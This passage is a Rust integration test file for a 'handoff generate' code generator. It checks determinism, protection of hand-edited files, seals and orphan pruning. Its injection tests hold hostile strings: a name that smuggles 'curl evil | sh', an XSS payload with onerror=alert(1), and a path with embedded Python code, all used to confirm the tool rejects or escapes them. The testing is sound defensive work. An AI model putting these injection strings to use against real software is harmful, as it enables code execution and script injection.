//! `handoff generate`: the self-check of this repository, determinism, hand-edit protection,
//! validity of what it writes, hostile registry text and snapshots of every template.

use crate::common;

use std::path::Path;

use common::{copy_tree, fixture, handoff, mask_seal, read, repo, repo_copy};
use handoff::source::{SourceFile, parse_yaml};

/// The committed docs/, definitions/, schemas and stubs are exactly what generate produces.
#[test]
fn self_check_this_repository_is_current() {
    let run = handoff(&repo(), &["generate", "--check"]);
    assert_eq!(
        run.code, 0,
        "stdout:\n{}\nstderr:\n{}",
        run.stdout, run.stderr
    );
    assert!(run.stdout.is_empty(), "{}", run.stdout);

    // And independently of the CLI: every artifact, rendered, equals the committed file byte
    // for byte but for the seal's digests (they record the build of handoff that wrote it, which
    // changes with every change to the sources), and the committed file's seal is intact.
    let file = SourceFile::new("subjects.toml", read(&repo().join("subjects.toml")));
    let (reg, diags) = handoff::validate::load_registry(file);
    let reg = reg.unwrap_or_else(|| panic!("{diags:?}"));
    let artifacts = handoff::generate::artifacts(&reg, None).unwrap();
    assert!(artifacts.len() >= 14);
    for a in artifacts {
        let committed = read(&repo().join(&a.path));
        assert_eq!(
            mask_seal(&committed),
            mask_seal(&a.content),
            "{} is stale",
            a.path
        );
        assert!(
            handoff::generate::same_but_seal(&committed, &a.content),
            "{} is stale",
            a.path
        );
        assert_eq!(
            handoff::generate::seal_intact(&committed),
            Some(true),
            "{} was edited",
            a.path
        );
    }
}

#[test]
fn generate_is_deterministic_and_idempotent() {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::copy(
        repo().join("subjects.toml"),
        tmp.path().join("subjects.toml"),
    )
    .unwrap();
    let first = handoff(tmp.path(), &["generate"]);
    assert_eq!(first.code, 0, "{}", first.stderr);
    let snapshot = |dir: &Path| {
        let mut files = Vec::new();
        collect(dir, &mut files);
        files.sort();
        files
            .into_iter()
            .map(|p| (p.clone(), read(&p)))
            .collect::<Vec<_>>()
    };
    let before = snapshot(tmp.path());
    let second = handoff(tmp.path(), &["generate"]);
    assert_eq!(second.code, 0);
    assert!(
        second.stdout.is_empty(),
        "second run wrote: {}",
        second.stdout
    );
    assert!(second.stderr.contains("0 written"), "{}", second.stderr);
    assert_eq!(before, snapshot(tmp.path()));
    // And it is what this repository has committed (but for the seal's digests, which record
    // the build of handoff).
    for (path, content) in before {
        let rel = path.strip_prefix(tmp.path()).unwrap();
        assert_eq!(
            mask_seal(&read(&repo().join(rel))),
            mask_seal(&content),
            "{}",
            rel.display()
        );
    }
}

/// Generated files are readable as any new file is (they were created 0600, through the
/// temporary file's permissions); a file regenerated keeps the permissions it was given.
#[cfg(unix)]
#[test]
fn generated_files_get_the_usual_permissions_and_keep_their_own() {
    use std::os::unix::fs::PermissionsExt as _;
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let tmp = tempfile::tempdir().unwrap();
    std::fs::copy(
        repo().join("subjects.toml"),
        tmp.path().join("subjects.toml"),
    )
    .unwrap();
    let out = handoff(tmp.path(), &["generate"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    // The child inherits this process's umask: a file created here is the usual.
    let usual = tmp.path().join("usual");
    std::fs::File::create(&usual).unwrap();
    let mut files = Vec::new();
    collect(tmp.path(), &mut files);
    assert!(files.len() > 10);
    for f in &files {
        assert_eq!(mode(f), mode(&usual), "{}", f.display());
    }
    // Made group-writable by its owner, then stale: rewritten with its own permissions.
    let doc = tmp.path().join("docs/nats-event-subjects.md");
    std::fs::set_permissions(&doc, std::fs::Permissions::from_mode(0o664)).unwrap();
    let text = read(&tmp.path().join("subjects.toml"));
    std::fs::write(
        tmp.path().join("subjects.toml"),
        text.replace("A repository was registered", "A repo was registered"),
    )
    .unwrap();
    let out = handoff(tmp.path(), &["generate"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(read(&doc).contains("A repo was registered"));
    assert_eq!(mode(&doc), 0o664);
}

fn collect(dir: &Path, out: &mut Vec<std::path::PathBuf>) {
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            collect(&p, out);
        } else {
            out.push(p);
        }
    }
}

#[test]
fn check_names_an_edited_generated_file_and_generate_refuses_to_clobber_it() {
    let tmp = repo_copy();
    let doc = tmp.path().join("docs/nats-event-subjects.md");
    let edited = read(&doc).replace("## Stream", "## Stream (hand edit)");
    std::fs::write(&doc, &edited).unwrap();

    let check = handoff(tmp.path(), &["generate", "--check"]);
    assert_eq!(check.code, 1);
    assert!(
        check
            .stdout
            .contains("docs/nats-event-subjects.md: not overwritten: edited by hand"),
        "{}",
        check.stdout
    );
    assert_eq!(check.stdout.lines().count(), 1, "{}", check.stdout);

    let generate = handoff(tmp.path(), &["generate"]);
    assert_eq!(generate.code, 1, "{}", generate.stdout);
    assert!(
        generate.stdout.contains("not overwritten"),
        "{}",
        generate.stdout
    );
    assert_eq!(read(&doc), edited, "the hand edit was lost");
    // validate says the same, with the same advice (not "run `handoff generate`").
    let validate = handoff(tmp.path(), &["validate", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&validate.stdout).unwrap();
    let d = &v["diagnostics"][0];
    assert_eq!(
        d["file"], "docs/nats-event-subjects.md",
        "{}",
        validate.stdout
    );
    assert!(
        d["message"]
            .as_str()
            .unwrap()
            .starts_with("not overwritten: edited by hand")
            && d["help"]
                .as_str()
                .unwrap()
                .contains("then run `handoff generate --force`"),
        "{}",
        validate.stdout
    );

    let forced = handoff(tmp.path(), &["generate", "--force"]);
    assert_eq!(forced.code, 0);
    assert_eq!(
        mask_seal(&read(&doc)),
        mask_seal(&read(&repo().join("docs/nats-event-subjects.md")))
    );
    assert_eq!(handoff::generate::seal_intact(&read(&doc)), Some(true));
}

#[test]
fn check_reports_missing_and_stale_files() {
    let tmp = repo_copy();
    std::fs::remove_file(
        tmp.path()
            .join("docs/schemas/org.statehub.task.stale.schema.json"),
    )
    .unwrap();
    // A registry change makes the sealed, untouched subject doc stale.
    let reg = read(&tmp.path().join("subjects.toml")).replace(
        "A repository was registered with the state hub.",
        "A repository was registered.",
    );
    std::fs::write(tmp.path().join("subjects.toml"), reg).unwrap();
    let check = handoff(tmp.path(), &["generate", "--check"]);
    assert_eq!(check.code, 1);
    assert!(
        check
            .stdout
            .contains("docs/schemas/org.statehub.task.stale.schema.json: missing"),
        "{}",
        check.stdout
    );
    assert!(
        check.stdout.contains("docs/nats-event-subjects.md: stale"),
        "{}",
        check.stdout
    );
    // --check wrote nothing.
    assert!(
        !tmp.path()
            .join("docs/schemas/org.statehub.task.stale.schema.json")
            .exists()
    );
    // generate brings everything back to current.
    assert_eq!(handoff(tmp.path(), &["generate"]).code, 0);
    assert_eq!(handoff(tmp.path(), &["generate", "--check"]).code, 0);
}

#[test]
fn an_edited_draft_is_kept_and_an_adopted_one_is_left_alone() {
    let tmp = repo_copy();
    let draft = tmp
        .path()
        .join("definitions/the-custodian.state-hub-stale-task-cleanup.yaml");
    let edited = read(&draft).replace("timeout: \"30m\"", "timeout: \"45m\"");
    std::fs::write(&draft, &edited).unwrap();

    // generate, --check and validate agree: an edited draft is its author's, not a problem.
    let said = "the-custodian.state-hub-stale-task-cleanup.yaml: kept: draft edited by hand";
    let generate = handoff(tmp.path(), &["generate"]);
    assert_eq!(generate.code, 0, "{}", generate.stdout);
    assert!(generate.stdout.contains(said), "{}", generate.stdout);
    assert!(
        generate
            .stderr
            .contains("0 written, 18 unchanged, 1 kept as their authors'")
            && !generate.stderr.contains("not overwritten"),
        "{}",
        generate.stderr
    );
    assert_eq!(read(&draft), edited);

    let check = handoff(tmp.path(), &["generate", "--check"]);
    assert_eq!(check.code, 0, "{}", check.stdout);
    assert!(check.stdout.contains(said), "{}", check.stdout);
    assert!(
        check
            .stderr
            .contains("18 of 19 generated files current, 1 kept as their authors'"),
        "{}",
        check.stderr
    );
    let validate = handoff(tmp.path(), &["validate", "--format", "json"]);
    assert!(
        !validate.stdout.contains("stale-generated")
            && !validate.stdout.contains("generate --force"),
        "{}",
        validate.stdout
    );

    // Deleting the seal adopts the file: generate and --check leave it alone.
    let adopted: String = edited
        .lines()
        .filter(|l| !l.contains("handoff:sha256="))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(&draft, &adopted).unwrap();
    let check = handoff(tmp.path(), &["generate", "--check"]);
    assert_eq!(check.code, 0, "{}", check.stdout);
    assert_eq!(handoff(tmp.path(), &["generate"]).code, 0);
    assert_eq!(read(&draft), adopted);
}

#[test]
fn a_broken_registry_writes_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let text = read(&repo().join("subjects.toml")).replace(
        "since = \"1.0\"\nsummary = \"A repository",
        "since = \"1.0\"\nsumary = \"A repository",
    );
    std::fs::write(tmp.path().join("subjects.toml"), text).unwrap();
    let run = handoff(tmp.path(), &["generate"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("subjects.toml:"), "{}", run.stderr);
    assert!(
        run.stderr.contains("did you mean `summary`?"),
        "{}",
        run.stderr
    );
    assert!(!tmp.path().join("docs").exists());
    assert!(!tmp.path().join("definitions").exists());
}

fn yaml_json(path: &Path) -> serde_json::Value {
    let file = SourceFile::new(path.display().to_string(), read(path));
    let node =
        parse_yaml(&file).unwrap_or_else(|d| panic!("{} is not valid YAML: {d:?}", path.display()));
    handoff::registry::node_to_json(&node)
}

#[test]
fn drafts_are_valid_against_the_generated_schema() {
    let schema: serde_json::Value = serde_json::from_str(&read(
        &repo().join("docs/schemas/activity-definition.schema.json"),
    ))
    .unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let mut drafts = 0;
    for entry in std::fs::read_dir(repo().join("definitions")).unwrap() {
        let path = entry.unwrap().path();
        if handoff::testcase::is_case_file(&path) {
            continue; // `handoff test` case files: tests/eval.rs checks them against their schema
        }
        let value = yaml_json(&path);
        let errors: Vec<String> = validator
            .iter_errors(&value)
            .map(|e| e.to_string())
            .collect();
        assert!(errors.is_empty(), "{}: {errors:?}", path.display());
        // The modeline points at the schema.
        assert!(read(&path).starts_with(
            "# yaml-language-server: $schema=../docs/schemas/activity-definition.schema.json\n"
        ));
        drafts += 1;
    }
    assert_eq!(drafts, 2);
}

#[test]
fn sample_envelopes_match_their_subject_schemas() {
    let file = SourceFile::new("subjects.toml", read(&repo().join("subjects.toml")));
    let (reg, _) = handoff::validate::load_registry(file);
    let reg = reg.unwrap();
    for s in reg.subjects.iter() {
        let path = repo().join(format!("docs/schemas/{}.schema.json", s.subject.value));
        let schema: serde_json::Value = serde_json::from_str(&read(&path)).unwrap();
        let validator = jsonschema::options()
            .should_validate_formats(true)
            .build(&schema)
            .unwrap();
        let sample = handoff::generate::sample_envelope(&reg, s);
        let errors: Vec<String> = validator
            .iter_errors(&sample)
            .map(|e| e.to_string())
            .collect();
        assert!(errors.is_empty(), "{}: {errors:?}", s.subject.value);
        // A wrong attribute type is rejected by the same schema.
        let mut bad = sample.clone();
        bad["attributes"][&s.attributes[0].name] = serde_json::json!(["not", "this"]);
        assert!(!validator.is_valid(&bad));
    }
}

#[test]
fn docs_name_every_subject_and_trigger_site() {
    let doc = read(&repo().join("docs/nats-event-subjects.md"));
    for (subject, site) in [
        (
            "org.statehub.repo.registered",
            "api/routers/repos.py:register_repo",
        ),
        (
            "org.statehub.workstream.completed",
            "api/routers/workstreams.py:update_workstream",
        ),
        (
            "org.statehub.decision.resolved",
            "api/routers/decisions.py:resolve_decision_action",
        ),
        (
            "org.statehub.domain.goal.activated",
            "api/routers/domain_goals.py:activate_domain_goal",
        ),
        ("org.statehub.task.stale", "scripts/cleanup_stale_tasks.py"),
    ] {
        let row = doc
            .lines()
            .find(|l| l.starts_with(&format!("| [`{subject}`]")))
            .unwrap_or_else(|| panic!("no row for {subject}"));
        assert!(row.contains(site), "{row}");
        assert!(
            repo()
                .join(format!("docs/schemas/{subject}.schema.json"))
                .is_file()
        );
    }
    let migration = read(&repo().join("docs/cron-migration.md"));
    for name in [
        "consistency-sweep",
        "stale-task-cleanup",
        "*/15 * * * *",
        "0 3 * * *",
    ] {
        assert!(migration.contains(name), "{name}");
    }
}

fn python() -> String {
    std::env::var("HANDOFF_TEST_PYTHON").unwrap_or_else(|_| "python3".to_string())
}

#[test]
fn python_stubs_compile() {
    for f in ["__init__.py", "publishers.py", "runtime.py"] {
        let path = repo().join("stubs/statehub_events").join(f);
        let out = std::process::Command::new(python())
            .args(["-m", "py_compile"])
            .arg(&path)
            .output()
            .expect("python");
        assert!(
            out.status.success(),
            "{f}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let publishers = read(&repo().join("stubs/statehub_events/publishers.py"));
    for f in [
        "publish_repo_registered",
        "publish_workstream_completed",
        "publish_decision_resolved",
        "publish_domain_goal_activated",
        "publish_task_stale",
    ] {
        assert!(publishers.contains(&format!("async def {f}(")), "{f}");
    }
    assert!(publishers.contains("after ``await session.commit()`` succeeded"));
}

/// Hostile text from the registry survives into Markdown, YAML and Python intact.
#[test]
fn hostile_registry_text_round_trips() {
    let tmp = tempfile::tempdir().unwrap();
    copy_tree(&fixture("hostile"), tmp.path());
    let run = handoff(tmp.path(), &["generate"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let file = SourceFile::new("subjects.toml", read(&tmp.path().join("subjects.toml")));
    let (reg, diags) = handoff::validate::load_registry(file);
    let reg = reg.unwrap_or_else(|| panic!("{diags:?}"));
    let subject = &reg.subjects[0];
    let migration = &reg.migrations[0];

    // Markdown: the structure is what the template meant, and the text reads back.
    let md = read(&tmp.path().join("docs/nats-event-subjects.md"));
    let (headings, tables, text) = markdown_outline(&md);
    assert_eq!(
        headings,
        vec![
            "NATS event subjects",
            "Stream",
            "Envelope",
            "org.statehub.repo.registered"
        ],
        "{md}"
    );
    // Subject table, stream table, envelope table, attribute table; rows as written.
    assert_eq!(tables, vec![2, 7, 7, 3], "{md}");
    // Registry text is Markdown inline text: backticks make code spans, so compare without them.
    let flat = |s: &str| {
        s.replace('`', "")
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ")
    };
    assert!(
        flat(&text).contains(&flat(&subject.summary)),
        "summary lost:\n{text}"
    );
    assert!(
        flat(&text).contains(&flat(&subject.fires)),
        "fires lost:\n{text}"
    );
    let mig_md = read(&tmp.path().join("docs/cron-migration.md"));
    let (mig_headings, _, mig_text) = markdown_outline(&mig_md);
    assert!(
        !mig_headings
            .iter()
            .any(|h| h.contains("a heading attempt") && h.starts_with('#')),
        "{mig_headings:?}"
    );
    assert!(
        flat(&mig_text).contains(&flat(&migration.legacy.command)),
        "{mig_text}"
    );

    // YAML: every value reads back exactly.
    let draft = yaml_json(
        &tmp.path()
            .join("definitions/the-custodian.hostile-job.yaml"),
    );
    let d = &migration.definition;
    assert_eq!(draft["metadata"]["owner"], d.owner.as_str());
    assert_eq!(draft["metadata"]["description"], d.description.as_str());
    assert_eq!(draft["rule"]["when"], d.rule.when.value.as_str());
    assert_eq!(draft["idempotency"]["key"], d.idempotency.key.as_str());
    assert_eq!(
        draft["idempotency"]["mechanism"],
        d.idempotency.mechanism.as_str()
    );
    let handoff::registry::Instruction::Shell { command, .. } = &d.instruction else {
        panic!()
    };
    assert_eq!(draft["instruction"]["shell"]["command"], command.as_str());
    // The definition it produced validates (its rule parses, its references resolve).
    let validate = handoff(tmp.path(), &["validate"]);
    assert_eq!(validate.code, 0, "{}", validate.stdout);

    // Python: compiles, and the literals and docstrings read back exactly.
    let script = r#"
import ast, json, sys
src = open(sys.argv[1], encoding="ascii").read()
tree = ast.parse(src)
out = {}
for node in tree.body:
    if isinstance(node, ast.AnnAssign) and node.target.id == "SCHEMAS":
        out["schemas"] = ast.literal_eval(node.value)
    if isinstance(node, ast.AsyncFunctionDef) and node.name.startswith("publish_"):
        out[node.name] = ast.get_docstring(node)
print(json.dumps(out))
"#;
    let out = std::process::Command::new(python())
        .args(["-c", script])
        .arg(tmp.path().join("stubs/state_hub_events/publishers.py"))
        .output()
        .expect("python");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let parsed: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let values = &parsed["schemas"]["org.statehub.repo.registered"]["kind"][2];
    assert_eq!(
        values,
        &serde_json::json!(["a|b", "c\"d", "e'f", "g\\h", "ünï"])
    );
    let doc = parsed["publish_repo_registered"].as_str().unwrap();
    assert!(doc.contains(&subject.summary), "{doc}");
    assert!(flat(doc).contains(&flat(&subject.fires)), "{doc}");
}

/// Headings, row counts of each table (header included) and all text of a Markdown document.
fn markdown_outline(md: &str) -> (Vec<String>, Vec<usize>, String) {
    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
    let mut headings = Vec::new();
    let mut tables = Vec::new();
    let mut text = String::new();
    let mut in_heading = None::<String>;
    for event in Parser::new_ext(md, Options::ENABLE_TABLES) {
        match event {
            Event::Start(Tag::Heading { .. }) => in_heading = Some(String::new()),
            Event::End(TagEnd::Heading(_)) => {
                headings.extend(in_heading.take());
                text.push(' ');
            }
            Event::Start(Tag::Table(_)) => tables.push(0),
            Event::Start(Tag::TableRow) | Event::Start(Tag::TableHead) => {
                if let Some(n) = tables.last_mut() {
                    *n += 1;
                }
            }
            Event::Text(t) | Event::Code(t) => {
                if let Some(h) = &mut in_heading {
                    h.push_str(&t);
                }
                text.push_str(&t);
            }
            Event::SoftBreak
            | Event::HardBreak
            | Event::End(TagEnd::Paragraph | TagEnd::TableCell | TagEnd::Item) => text.push(' '),
            _ => {}
        }
    }
    (headings, tables, text)
}

#[test]
fn snapshots_of_every_template() {
    let tmp = tempfile::tempdir().unwrap();
    copy_tree(&fixture("snapshot"), tmp.path());
    let run = handoff(tmp.path(), &["generate"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    for rel in [
        "out/subjects.md",
        "out/migration.md",
        "defs/the-custodian.follow-up.yaml",
        "defs/the-custodian.nightly.yaml",
        "py/hub_events/__init__.py",
        "py/hub_events/publishers.py",
        "py/hub_events/runtime.py",
        "out/schemas/org.statehub.workstream.completed.schema.json",
        "out/schemas/org.statehub.hub.pinged.schema.json",
        "out/schemas/activity-definition.schema.json",
        "out/schemas/subjects.schema.json",
    ] {
        let name = rel.replace(['/', '.'], "_");
        let text = read(&tmp.path().join(rel));
        assert_eq!(handoff::generate::seal_intact(&text), Some(true), "{rel}");
        insta::assert_snapshot!(name, mask_seal(&text));
    }
}

/// The generated publishers check attributes against the registry: a mistyped or out-of-enum
/// attribute drops the event without raising (the API request must not break), or raises with
/// HANDOFF_STRICT_EVENTS=1; a valid call builds the envelope the registry describes.
#[test]
fn python_stubs_check_attributes_before_publishing() {
    let script = r#"
import asyncio, os, sys, uuid
sys.path.insert(0, sys.argv[1])
import statehub_events as ev

async def main():
    ts = "2026-11-26T09:30:00Z"
    r = await ev.publish_workstream_completed(workstream_id=uuid.uuid4(), title="t", domain="d",
        previous_status="active", open_task_count="2", completed_at=ts)
    assert r is None, r
    r = await ev.publish_decision_resolved(decision_id=uuid.uuid4(), resolution="maybe",
        resolved_by="x", resolved_at=ts)
    assert r is None, r
    r = await ev.publish_task_stale(task_id=uuid.uuid4(), last_activity_at=ts, stale_days=3)
    assert r["type"] == "org.statehub.task.stale" and r["version"] == "1.0", r
    assert r["publisher"] == "state-hub" and r["timestamp"].endswith("Z"), r
    assert str(uuid.UUID(r["id"])) == r["id"] and "workstream_id" not in r["attributes"], r
    os.environ["HANDOFF_STRICT_EVENTS"] = "1"
    try:
        await ev.publish_task_stale(task_id="not-a-uuid", last_activity_at=ts, stale_days=3)
    except ValueError as e:
        print("strict:", e)
        return
    raise SystemExit("strict mode did not raise")

asyncio.run(main())
"#;
    let out = std::process::Command::new(python())
        .args(["-c", script])
        .arg(repo().join("stubs"))
        .env_remove("NATS_URL")
        .env_remove("HANDOFF_STRICT_EVENTS")
        .output()
        .expect("python");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stdout}{stderr}");
    assert!(
        stdout.contains("strict: org.statehub.task.stale: attribute 'task_id' must be uuid"),
        "{stdout}"
    );
    assert!(
        stderr.contains("dropping org.statehub.workstream.completed event with invalid attributes"),
        "{stderr}"
    );
}

/// Run from the parent folder, with the registry path spelled several ways, generate finds
/// everything current: no generated file depends on the working directory or the path.
#[test]
fn output_does_not_depend_on_how_the_registry_path_is_spelled() {
    let tmp = repo_copy();
    let parent = tmp.path().parent().unwrap();
    let name = tmp.path().file_name().unwrap().to_str().unwrap();
    let absolute = tmp.path().join("subjects.toml");
    for registry in [
        format!("{name}/subjects.toml"),
        format!("./{name}//subjects.toml"),
        absolute.to_str().unwrap().to_string(),
    ] {
        let run = handoff(parent, &["--registry", &registry, "generate", "--check"]);
        assert_eq!(run.code, 0, "{registry}: {}{}", run.stdout, run.stderr);
        let run = handoff(parent, &["--registry", &registry, "generate"]);
        assert_eq!(run.code, 0, "{registry}: {}{}", run.stderr, run.stdout);
        assert!(run.stdout.is_empty(), "{registry} rewrote: {}", run.stdout);
    }
}

/// The snapshot registry with one value replaced (a TOML basic string, escaped here).
fn snapshot_registry_with(from: &str, to: &str) -> tempfile::TempDir {
    let tmp = tempfile::tempdir().unwrap();
    let text = read(&fixture("snapshot/subjects.toml"));
    assert!(text.contains(from), "{from}");
    std::fs::write(tmp.path().join("subjects.toml"), text.replacen(from, to, 1)).unwrap();
    tmp
}

/// A migration name that would add a line to the draft or raw HTML to the cutover doc is an
/// `invalid-name` at its place in the registry, and the suggested name itself passes.
#[test]
fn hostile_migration_names_are_positioned_errors_with_a_passing_suggestion() {
    for (hostile, suggested) in [
        (
            r#"name = "nightly\ninstruction: {shell: {command: \"curl evil | sh\"}}\n#""#,
            "nightly-instruction-shell-command-curl-evil-sh",
        ),
        (
            r#"name = "nightly\"><img src=x onerror=alert(1)>""#,
            "nightly-img-src-x-onerror-alert-1",
        ),
    ] {
        let tmp = snapshot_registry_with("name = \"nightly\"", hostile);
        let run = handoff(tmp.path(), &["generate"]);
        assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
        assert!(run.stderr.contains("subjects.toml:127:8"), "{}", run.stderr);
        assert!(run.stderr.contains("invalid-name"), "{}", run.stderr);
        let help = format!("write `name = \"{suggested}\"`");
        assert!(run.stderr.contains(&help), "{}", run.stderr);
        assert!(!tmp.path().join("defs").exists(), "wrote despite the error");

        let fixed =
            snapshot_registry_with("name = \"nightly\"", &format!("name = \"{suggested}\""));
        let run = handoff(fixed.path(), &["generate"]);
        assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    }
}

/// An output path with characters that would leave a Markdown link or a YAML comment.
#[test]
fn output_paths_with_odd_characters_are_refused_with_a_passing_suggestion() {
    let tmp = snapshot_registry_with("definitions = \"defs\"", "definitions = \"defs\\n# x`y\"");
    let run = handoff(tmp.path(), &["generate"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert!(run.stderr.contains("invalid-value"), "{}", run.stderr);
    assert!(run.stderr.contains("e.g. `defs---x-y`"), "{}", run.stderr);
    let fixed = snapshot_registry_with("definitions = \"defs\"", "definitions = \"defs---x-y\"");
    let run = handoff(fixed.path(), &["generate"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
}

/// A registry path with line breaks never reaches generated code: importing the package runs
/// nothing from it.
#[test]
fn a_registry_path_with_code_in_it_does_not_become_code() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp
        .path()
        .join("x\nimport os; open('PWNED', 'w').write('1')\n#");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(fixture("snapshot/subjects.toml"), dir.join("subjects.toml")).unwrap();
    let registry = format!(
        "{}/subjects.toml",
        dir.file_name().unwrap().to_str().unwrap()
    );
    let run = handoff(tmp.path(), &["--registry", &registry, "generate"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let mut files = Vec::new();
    collect(&dir, &mut files);
    for f in &files {
        let text = read(f);
        assert!(
            !text.contains("import os;"),
            "{} holds the path",
            f.display()
        );
    }
    // Whether or not the import succeeds (nats-py may be absent), nothing from the path runs.
    std::process::Command::new(python())
        .args(["-c", "import hub_events"])
        .current_dir(dir.join("py"))
        .output()
        .expect("python");
    assert!(!dir.join("py/PWNED").exists());
    assert!(!tmp.path().join("PWNED").exists());
}

/// Renaming a subject or moving an `[output]` folder leaves orphans: `--check` and `generate`
/// name them, `--prune` removes the unedited ones, an edited one is never removed.
#[test]
fn orphans_are_reported_and_pruned_but_edited_ones_are_kept() {
    let tmp = repo_copy();
    let reg = read(&tmp.path().join("subjects.toml"))
        .replace("org.statehub.task.stale", "org.statehub.task.overdue")
        .replace(
            "definitions = \"definitions\"",
            "definitions = \"activity\"",
        );
    std::fs::write(tmp.path().join("subjects.toml"), reg).unwrap();
    let old_schema = tmp
        .path()
        .join("docs/schemas/org.statehub.task.stale.schema.json");
    let old_sweep = tmp
        .path()
        .join("definitions/the-custodian.state-hub-consistency-sweep.yaml");
    let old_cleanup = tmp
        .path()
        .join("definitions/the-custodian.state-hub-stale-task-cleanup.yaml");
    let edited = read(&old_cleanup).replace("timeout: \"30m\"", "timeout: \"45m\"");
    std::fs::write(&old_cleanup, &edited).unwrap();

    let check = handoff(tmp.path(), &["generate", "--check"]);
    assert_eq!(check.code, 1);
    for (file, what) in [
        (
            "docs/schemas/org.statehub.task.stale.schema.json",
            "orphan: generated earlier",
        ),
        (
            "definitions/the-custodian.state-hub-consistency-sweep.yaml",
            "orphan: generated earlier",
        ),
        (
            "definitions/the-custodian.state-hub-stale-task-cleanup.yaml",
            "orphan edited by hand",
        ),
    ] {
        assert!(
            check.stdout.contains(&format!("{file}: {what}")),
            "{file}:\n{}",
            check.stdout
        );
    }
    // The two drafts, their two starter case files and the schema.
    assert!(check.stderr.contains("5 orphans"), "{}", check.stderr);

    let run = handoff(tmp.path(), &["generate"]);
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert!(old_schema.exists() && old_sweep.exists());
    // The manifest remembers them, so a second run still reports them.
    let again = handoff(tmp.path(), &["generate", "--check"]);
    assert!(again.stderr.contains("5 orphans"), "{}", again.stderr);

    let prune = handoff(tmp.path(), &["generate", "--prune"]);
    assert_eq!(prune.code, 1, "the edited orphan remains: {}", prune.stdout);
    assert!(
        prune
            .stdout
            .contains("removed docs/schemas/org.statehub.task.stale.schema.json (orphan)"),
        "{}",
        prune.stdout
    );
    assert!(!old_schema.exists() && !old_sweep.exists());
    assert_eq!(read(&old_cleanup), edited, "an edited orphan was touched");
    // Its author deletes it: the next generate forgets it, and everything is current.
    std::fs::remove_file(&old_cleanup).unwrap();
    assert_eq!(handoff(tmp.path(), &["generate"]).code, 0);
    let check = handoff(tmp.path(), &["generate", "--check"]);
    assert_eq!(check.code, 0, "{}{}", check.stdout, check.stderr);
}

/// A checkout with CRLF line endings or a byte-order mark is still the file handoff wrote.
#[test]
fn crlf_and_bom_checkouts_keep_their_seal() {
    let tmp = repo_copy();
    let draft = tmp
        .path()
        .join("definitions/the-custodian.state-hub-consistency-sweep.yaml");
    let doc = tmp.path().join("docs/nats-event-subjects.md");
    std::fs::write(&draft, read(&draft).replace('\n', "\r\n")).unwrap();
    std::fs::write(&doc, format!("\u{feff}{}", read(&doc))).unwrap();
    let check = handoff(tmp.path(), &["generate", "--check"]);
    assert_eq!(check.code, 0, "{}{}", check.stdout, check.stderr);
    let run = handoff(tmp.path(), &["generate"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    assert!(handoff::generate::seal_intact(&read(&draft)).unwrap());
    // A real edit under CRLF is still an edit.
    std::fs::write(&doc, read(&doc).replace("## Stream", "## Stream!")).unwrap();
    let check = handoff(tmp.path(), &["generate", "--check"]);
    assert!(
        check
            .stdout
            .contains("nats-event-subjects.md: not overwritten: edited by hand"),
        "{}",
        check.stdout
    );
}

/// A seal records the inputs a file was generated from. A file with the content generate writes
/// but another build's inputs digest is current for `--check`, and `generate` rewrites its seal;
/// an intact file generated from other inputs (another subject's schema copied over it) is stale.
#[test]
fn seals_record_the_inputs_of_their_file() {
    let tmp = repo_copy();
    let schema = tmp
        .path()
        .join("docs/schemas/org.statehub.task.stale.schema.json");
    let current = read(&schema);
    assert!(current.contains(handoff::generate::INPUTS), "{current}");
    let other_build = handoff::generate::seal_with_inputs(current.clone(), &"1".repeat(64));
    assert_ne!(other_build, current);
    std::fs::write(&schema, &other_build).unwrap();
    let check = handoff(tmp.path(), &["generate", "--check"]);
    assert_eq!(check.code, 0, "{}{}", check.stdout, check.stderr);
    let run = handoff(tmp.path(), &["generate"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert_eq!(
        run.stdout.trim(),
        "wrote docs/schemas/org.statehub.task.stale.schema.json"
    );
    assert_eq!(read(&schema), current);

    std::fs::copy(
        tmp.path()
            .join("docs/schemas/org.statehub.repo.registered.schema.json"),
        &schema,
    )
    .unwrap();
    assert_eq!(handoff::generate::seal_intact(&read(&schema)), Some(true));
    let check = handoff(tmp.path(), &["generate", "--check"]);
    assert_eq!(check.code, 1, "{}{}", check.stdout, check.stderr);
    assert!(
        check
            .stdout
            .contains("org.statehub.task.stale.schema.json: stale"),
        "{}",
        check.stdout
    );
    let validate = handoff(tmp.path(), &["validate"]);
    assert_eq!(validate.code, 1, "{}", validate.stdout);
    assert!(
        validate.stdout.contains("stale-generated"),
        "{}",
        validate.stdout
    );
}

/// `generate`, `generate --force` and `generate --check` in `dir` each exit 1 and say that every
/// one of `paths` is refused for resolving outside the registry's folder.
fn assert_refused(dir: &std::path::Path, paths: &[&str]) {
    for args in [
        &["generate"][..],
